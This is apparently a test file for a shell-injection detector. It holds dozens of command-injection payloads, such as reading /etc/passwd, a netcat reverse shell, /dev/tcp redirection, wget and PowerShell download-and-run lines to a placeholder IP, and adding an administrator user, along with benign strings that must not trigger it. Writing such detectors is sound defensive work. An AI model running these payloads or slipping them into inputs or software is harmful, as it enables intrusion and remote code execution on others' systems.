// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the syntax of other languages is what is tested.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { shell } from '../../../src/detect/recognise/shell.ts';
import { describeRecogniser } from './recogniser.case.ts';

describeRecogniser(
  shell,
  {
    'separated-command': [
      ';id',
      ';id;',
      '|id',
      '||id',
      '& id',
      '\nid\n',
      '\\nid\\n',
      '8.8.8.8;id',
      'x.jpg|id',
      'a);id',
      'x;whoami',
      'x & whoami &',
      '127.0.0.1 && ls -la',
      '; cat /etc/passwd',
      '|sleep 5',
      ';sleep 7 #',
      "x' || id || echo '",
      "'&sleep 2.5&'",
      'x\runame #',
      'x" || echo 4d 5a 50 >>stage',
      "|cat fl''ag",
      ';kill -9 1',
      ';echo x1y2',
      ';cat *',
      ';cat index.php',
      ';nslookup x.example.org',
      '& nslookup Abc1&',
      '; wget http://192.0.2.1/x',
      '|$u wget x.y',
      ";awk '{print}' x",
      ';X=1 whoami',
      ';sudo id > /tmp/x',
    ],
    command: [
      'cat /etc/passwd',
      'cat ../../x',
      'cat flag.txt',
      'php x.php',
      'cat x http://192.0.2.1/y',
      'cat\v/etc/passwd',
      'script d:',
      'ls -la',
      'uname -a',
      'wget http://192.0.2.1/x',
      'curl -s http://192.0.2.1/x',
      'cd /tmp; wget x',
      'ping 192.0.2.1',
      'nohup whoami',
      'time ifconfig',
      'whoami;id',
      'uname|ls',
      'dd if=/etc/passwd of=x',
      'echo $PATH',
      'echo x > /tmp/y',
      'find / -name x',
      'chmod +x y',
      ';ps aux',
      'wmic process list',
      'certutil -urlcache -f x',
    ],
    'command-substitution': ['$(id)', '`id`', '$(sleep 5)', 'a`whoami`b', '$(curl x)', '<(cat x)', '`uname -a`'],
    'hidden-command': ["c'a't x", ';w\\ho\\am\\i', ';ca$@t x', 'wh$@oami', ';who``ami', 'who^ami', ';w"h"o"a"mi'],
    'command-path': [';/usr/bin/id', '/bin/cat x', 'x /bin/sh', 'c:\\windows\\system32\\cmd.exe /c dir'],
    interpreter: ["bash -c 'x'", 'python3 -c "x"', ";perl -e 'x'", "|php -r 'x'"],
    'reverse-shell': ['nc -e x 192.0.2.1 1', 'x;bash -i x'],
    'field-separator': ['cat$IFS/x', 'x${IFS}y'],
    'brace-command': ['{cat,/etc/passwd}', ';{ls,-la}', '{id,}', '{,ifconfig}'],
    'wildcard-path': ['/???/c?t', '/bin/c?t', '/b?n/l*', '/etc/pas[s]wd', '/[b]in/sh'],
    'assembled-command': ['a=c;b=at;$a$b x', 'X=id;${X}'],
    redirection: ['x >/dev/tcp/192.0.2.1/1', '2>&1', 'x > /dev/null'],
    'here-string': ['cat<<<x'],
    'function-definition': ['() { :;}; id', '() { _; } ;x'],
    'windows-variable': ['%COMSPEC%', '%ProgramFiles:~10,1%'],
    'windows-loop': ['for /f "x" %i in (y) do z', 'for %i in (*) do x'],
    'windows-condition': ['if /i a==b c', 'if not errorlevel 0 x', 'if exist x.txt del y', 'if %a%==b c'],
    'windows-command': [
      'type c:\\boot.ini',
      'dir c:\\',
      'net user',
      'net user bob P4ss /add',
      'net localgroup administrators',
      '& net user bob',
      'reg query HKLM\\X',
      'cmd /c dir',
      '& ping -n 5 127.0.0.1 &',
      'set /p = x',
      'type %SYSTEMROOT%\\x',
    ],
    powershell: [
      'powershell -enc AA',
      "IEX(New-Object Net.WebClient).DownloadString('x')",
      'invoke-webrequest x',
      'ie`x (iwr x)',
      '[Convert]::FromBase64String(x)',
    ],
  },
  [
    'mail (/home/a)',
    'at home.html',
    'net user guide',
    'allow a missing `source.list` file',
    'the `name` id',
    'net user account settings',
    'view 192.0.2.1',
    'open a=/b',
    "sleep rock'n'roll",
    "cat rock'n'roll",
    'rock & roll; cat food',
    '`users`.`id` = 42',
    '`id` = 5',
    'naps; sleep 8 hours',
    'tom & jerry',
    'cats;dogs',
    'name;id',
    'id;name;date',
    'title|id',
    'a|b|c',
    '1;2;3',
    'cat -dog',
    'java -script',
    'sort -price',
    'python; perl; ruby',
    'linux;bash;python',
    'linux|bash|python',
    'id>5',
    'id <= 100',
    'bash; zsh; fish',
    'linux | bash tutorial',
    'cut; copy; paste',
    'man; woman',
    'head & shoulders',
    'sleep; eat; repeat',
    'who is it',
    'time to go',
    'find a dentist near me',
    'echo & the bunnymen',
    'kill bill',
    'net income & expenses',
    'net config sleep',
    'Home | About | Contact',
    'use `cat` to print',
    'it is `true` when open',
    'Copyright &copy; 2024',
    '$(document).ready',
    '{{name}}',
    '{"a":"b","id":1}',
    "; i'd go",
    "don't; won't",
    'if exist then print',
    'fix for x if defined have_y',
    'for x in list',
    'C:\\Users\\Bob',
    '../images/logo.png',
    '12:30 & 14:00',
    'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
    'Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko',
    'Mozilla/5.0 (Linux; U; Android 4.1.2; id; GT-S5570) AppleWebKit/533.1',
    'Opera/9.80 (Windows NT 6.1; U; ed) Presto/2.12',
    'Wget/1.20.3 (linux-gnu)',
    'curl/7.68.0',
    'fetch libfetch/2.0',
  ],
);

describe('shell among other text', () => {
  const lead = fc.stringMatching(/^[a-z0-9 .]{0,40}$/);

  it.each([';cat /etc/passwd', '|wget http://192.0.2.1/x', '$(id)', '&& uname -a'])(
    'finds %s after any words',
    (attack) => {
      fc.assert(
        fc.property(lead, (words) => {
          expect(shell.recognise(words + attack)).not.toBeNull();
        }),
      );
    },
  );

  it.each([';cat /etc/passwd ', '$(id)', 'wget http://192.0.2.1/x '])('finds %s before any words', (attack) => {
    fc.assert(
      fc.property(lead, (words) => {
        expect(shell.recognise(attack + words)).not.toBeNull();
      }),
    );
  });

  it('finds a command with quotes in any place inside it', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }), (cut) => {
        expect(shell.recognise(`;${'whoami'.slice(0, cut)}''${'whoami'.slice(cut)}`)?.shape).toBe('hidden-command');
      }),
    );
  });
});
